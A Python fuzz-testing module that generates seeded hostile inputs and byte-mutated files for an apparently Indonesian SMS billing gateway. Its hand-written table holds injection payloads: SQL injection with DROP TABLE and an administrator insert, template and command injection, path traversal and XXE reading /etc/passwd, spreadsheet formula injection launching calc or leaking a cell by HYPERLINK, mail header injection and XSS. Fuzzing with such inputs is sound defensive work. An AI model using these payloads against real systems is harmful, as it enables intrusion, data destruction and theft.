"""Hostile inputs: a table by hand, and generators with a seed, so that every run tries the same ones."""

from __future__ import annotations

import random
from collections.abc import Iterator

#: By hand: what has broken gateways, mail readers, spreadsheets, terminals and logs elsewhere.
BY_HAND: tuple[str, ...] = (
    "' OR '1'='1",
    "'; DROP TABLE bill; --",
    '" UNION SELECT pin_hash FROM staff --',
    "\\'; insert into staff_role values (1,'administrator'); --",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(999999999) %}a{% endfor %}",
    "{# #}{{ config }}{{ self }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s%s%s%n%n %(pin)s {0} {pin} {0.__class__}",
    "$(id) `id` ; id | id && id",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/stdin\0.csv",
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62812|calc",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a\r\nSubject: palsu\r\nBcc: x@example.org\r\n\r\nisi",
    'baris\n{"level":"error","event":"palsu"}',
    "\x1b[2J\x1b]0;judul\x07\x1b[31m",
    "\x00\x01\x02\x7f\x80\x9f",
    "\ud800\udfff",
    "\u202ekeliru\u202c \u200b\u200d\ufeff",
    "Ａ１２３４ ＴＡＧＩＨＡＮ",
    "𝐁𝐀𝐘𝐀𝐑 PKB-2026-000001",
    "A" * 5000,
    "😀" * 1000,
    "#" * 500,
    "." * 500 + "#" * 500,
    "9" * 1000,
    "PKB-" + "2026-" * 300 + "1",
    "( " * 500 + ") " * 500,
    "a" * 50 + "!" + "a" * 50,
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    '{"command":"REPORT","fields":{"pin":"0000"}}',
    "null",
    "NaN",
    "-1",
    "1e309",
    "0x41",
    "٣٦٠٤٠١٤١٠٧٩٠٠٠٠٣",
    "PKB-2026-000001" * 40,
    "id:1 OR state:open",
    "administrator",
    "staff:root",
    "system:engine",
    "YA YA YA",
    "STOP START STOP START",
    "",
    " ",
    "\u00a0\u2003\u3000",
)
KEYWORDS = (
    *("BANTUAN", "INFO", "LAYANAN", "DAFTAR", "MOHON", "STATUS", "RIWAYAT", "TAGIHAN", "BAYAR", "DOKUMEN"),
    *("MULAI", "BERHENTI", "BATAL", "LAPORAN", "YA", "TIDAK", "KODE"),
)
_ALPHABET = "AaBb09#.*/-_ ,:;'\"\\{}[]()<>%$&|=+@!?~^`\n\r\t\0\x1b€é🙏\u202e\ufeffـ" + "1234567890" * 2


def texts(count: int, seed: int = 2026) -> Iterator[str]:
    """The table behind every keyword, then generated ones: noise, mutated commands, repeated fields."""
    chance = random.Random(seed)
    table = [*BY_HAND, *(f"{word} {text}" for word in KEYWORDS for text in BY_HAND)]
    yield from table[:count]
    for _ in range(max(0, count - len(table))):
        yield _generated(chance)


def _generated(chance: random.Random) -> str:
    kind = chance.randrange(4)
    noise = "".join(chance.choice(_ALPHABET) for _ in range(chance.randrange(1, 200)))
    if kind == 0:
        return noise
    if kind == 1:
        return f"{chance.choice(KEYWORDS)} {noise}"
    if kind == 2:
        fields = "#".join(chance.choice((*BY_HAND, noise)) for _ in range(chance.randrange(1, 8)))
        return f"{chance.choice(KEYWORDS)}{chance.choice(' #.*')}{fields}"
    valid = list("BAYAR PKB-2026-000001#FT26111AAA#12-11-2026#10.00#500000#BJB")
    for _ in range(chance.randrange(1, 6)):
        valid[chance.randrange(len(valid))] = chance.choice(_ALPHABET)
    return "".join(valid)


def mutated(valid: bytes, count: int, seed: int = 2026) -> Iterator[bytes]:
    """A valid file or PDU with bytes changed, cut out, doubled, cut off or filled up."""
    chance = random.Random(seed)
    for _ in range(count):
        data = bytearray(valid)
        for _ in range(chance.randrange(1, 8)):
            _mutate(data, chance)
        yield bytes(data)


def _mutate(data: bytearray, chance: random.Random) -> None:
    if not data:
        data += chance.randbytes(4)
        return
    at, kind = chance.randrange(len(data)), chance.randrange(5)
    if kind == 0:
        data[at] = chance.randrange(256)
    elif kind == 1:
        del data[at : at + chance.randrange(1, 20)]
    elif kind == 2:
        data[at:at] = data[at : at + chance.randrange(1, 50)] * chance.randrange(1, 4)
    elif kind == 3:
        del data[at:]
    else:
        data[at:at] = chance.randbytes(chance.randrange(1, 30))
